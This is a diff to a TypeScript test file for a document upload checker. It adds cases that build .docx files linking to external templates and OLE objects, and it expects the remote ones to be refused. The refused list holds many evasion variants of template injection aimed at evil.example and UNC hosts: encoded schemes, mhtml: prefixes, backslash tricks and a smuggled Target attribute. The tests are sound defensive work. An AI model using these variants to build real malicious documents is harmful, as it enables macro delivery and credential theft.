@@ -74,22 +74,71 @@ function shortened(): Buffer {
   return bytes;
 }
 
-const template = (target: string) => () =>
-  madeDocument("docx", {
-    also: {
-      "word/_rels/settings.xml.rels": `<Relationships>\n<Relationship Id="a" TargetMode = "External"\n Target = "${target}" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"/></Relationships>`,
-    },
-  });
+const linked =
+  (type: string, target: string, id = "a") =>
+  () =>
+    madeDocument("docx", {
+      also: {
+        "word/_rels/settings.xml.rels": `<Relationships>\n<Relationship Id="${id}" TargetMode = "External"\n Target = "${target}" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}"/></Relationships>`,
+      },
+    });
+
+const template = (target: string) => linked("attachedTemplate", target);
 
 test("a template of their own machine is fetched from nowhere", async () => {
-  for (const target of ["file:///C:\\Users\\a\\Normal.dotm", "Lettre.dotx"])
-    await check("a.docx", template(target)());
+  const own = ["file:///C:\\Users\\a\\Normal.dotm", "file:///C:/Users/a/Mod%C3%A8le%201.dotm"];
+  for (const target of [
+    ...own,
+    "file:///Users/a/Normal.dotm",
+    "/Users/a/Normal.dotm",
+    "C:\\a\\Normal.dotm",
+    "../Lettre.dotx",
+  ])
+    await expect(check("a.docx", template(target)())).resolves.toMatchObject({ kind: "office" });
+  const object = linked("oleObject", "/word/embeddings/oleObject1.bin");
+  await expect(check("a.docx", object())).resolves.toMatchObject({ kind: "office" });
 });
 
-const REFUSED: [string, string, () => Buffer, string][] = [
+const REFUSED: [why: string, name: string, make: () => Buffer, code: string][] = [
   ["a template on the web", "a.docx", template("http://evil.example/x.dotm"), "fileHasMacros"],
   ["one on another machine", "a.docx", template("\\\\10.0.0.1\\a.dotm"), "fileHasMacros"],
   ["one by its address as a file", "a.docx", template("file://evil/a.dotm"), "fileHasMacros"],
+  [
+    "an object on the web",
+    "a.docx",
+    linked("oleObject", "http://evil.example/x!"),
+    "fileHasMacros",
+  ],
+  [
+    "a template behind what looks like its address",
+    "a.docx",
+    linked("attachedTemplate", "http://evil.example/x.dotm", " Target='a.dotm"),
+    "fileHasMacros",
+  ],
+  [
+    "a template whose kind is spaced",
+    "a.docx",
+    linked("attachedTemplate ", "http://evil.example/x.dotm"),
+    "fileHasMacros",
+  ],
+  ...[
+    "file:///\\\\evil\\a.dotm",
+    "file:////evil/a.dotm",
+    "file:\\\\evil\\a.dotm",
+    "file:///%5C%5Cevil/a.dotm",
+    "%5c%5Cevil%5ca.dotm",
+    "mhtml:http://evil.example/x!a.dotm",
+    "http:\\\\evil.example\\a.dotm",
+    "https://evil.example/a>b.dotm",
+    "\\/evil/a.dotm",
+    "\\??\\UNC\\evil\\a.dotm",
+    "ht%74p://evil.example/a.dotm",
+  ].map((target): (typeof REFUSED)[number] => [
+    `a template at ${target}`,
+    "a.docx",
+    template(target),
+    "fileHasMacros",
+  ]),
   [
     "Word's macros",
     "a.docm",
